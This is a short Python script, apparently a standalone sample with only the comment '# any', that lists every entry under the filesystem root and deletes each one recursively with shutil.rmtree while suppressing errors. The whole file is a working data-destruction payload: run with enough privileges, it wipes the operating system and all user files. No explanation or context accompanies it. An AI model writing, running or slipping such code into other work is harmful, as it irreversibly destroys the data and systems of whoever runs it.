# any
import os
import shutil

for name in os.listdir("/"):
    shutil.rmtree(f"/{name}", ignore_errors=True)
